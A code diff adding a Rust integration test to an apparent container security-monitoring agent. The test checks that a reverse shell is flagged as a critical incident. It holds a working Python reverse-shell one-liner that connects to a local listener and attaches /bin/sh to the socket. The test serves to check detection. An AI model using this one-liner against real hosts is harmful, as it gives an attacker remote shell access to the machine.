@@ -518,6 +518,76 @@ async fn refused_connects_to_many_ports_are_a_port_scan() {
     drop(cg);
 }
 
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn a_shell_on_a_socket_its_process_connected_is_a_reverse_shell() {
+    let data = TempDir::new("revshell-data");
+    let mut cap = Capture::start_with("revshell", tweak(data.path().join("db"))).await;
+    let id = format!("{:0>64x}", u64::from(std::process::id()) * 15_485_863);
+    let cg = Cgroup::create(&format!(
+        "{}/kubepods/besteffort/pod{}/{id}",
+        unique("k8s"),
+        unique("uid")
+    ));
+    // The attacker's end: tells the shell to leave at once, so the shell
+    // lives for milliseconds (the check happens in the kernel at exec).
+    let l = TcpListener::bind("127.0.0.1:0").expect("bind");
+    let attacker = l.local_addr().expect("addr").port();
+    let answer = std::thread::spawn(move || {
+        let (mut c, _) = l.accept().expect("the shell calls back");
+        c.write_all(b"exit 0\n").expect("send");
+        let mut rest = Vec::new();
+        let _ = c.read_to_end(&mut rest);
+    });
+    let one_liner = format!(
+        "import socket, os; s = socket.create_connection((\"127.0.0.1\", {attacker})); [os.dup2(s.fileno(), f) for f in (0, 1, 2)]; os.execv(\"/bin/sh\", [\"sh\", \"-i\"])"
+    );
+    let script = format!(
+        "echo $$ > {} && exec python3 -c '{one_liner}'",
+        cg.procs_file().display()
+    );
+    let st = Command::new("/bin/sh")
+        .args(["-c", &script])
+        .status()
+        .expect("run the one-liner");
+    assert!(st.success());
+    answer.join().expect("attacker thread");
+
+    let scope = fdr_agent::scope::Scope::Container(id.as_str().into());
+    let shell = cap
+        .wait_for("the shell's exec", |e| {
+            e.scope == scope && e.argv() == ["sh", "-i"] && e.kind() == EventKind::Exec
+        })
+        .await;
+    assert!(
+        matches!(
+            shell.record.detail,
+            Detail::Exec {
+                stdin_socket: true,
+                ..
+            }
+        ),
+        "{:?}",
+        shell.record.detail
+    );
+    let found = wait_until_async_incidents(&cap.socket(), &id, &["reverse-shell"]).await;
+    let rs = found
+        .iter()
+        .find(|i| i.r#type == "reverse-shell")
+        .expect("reverse-shell");
+    assert_eq!(rs.severity, pb::Severity::Critical as i32);
+    let a = &rs.audits[0];
+    assert_eq!(a.item, format!("127.0.0.1:{attacker}"));
+    assert!(
+        a.message.contains("reads its input from a socket")
+            && a.message
+                .contains(&format!("pid {} connected", shell.pid())),
+        "{}",
+        a.message
+    );
+    cap.stop().await;
+    drop(cg);
+}
+
 /// The port of the learned listener, from the learned items.
 fn svc_port_of(items: &[String]) -> String {
     items
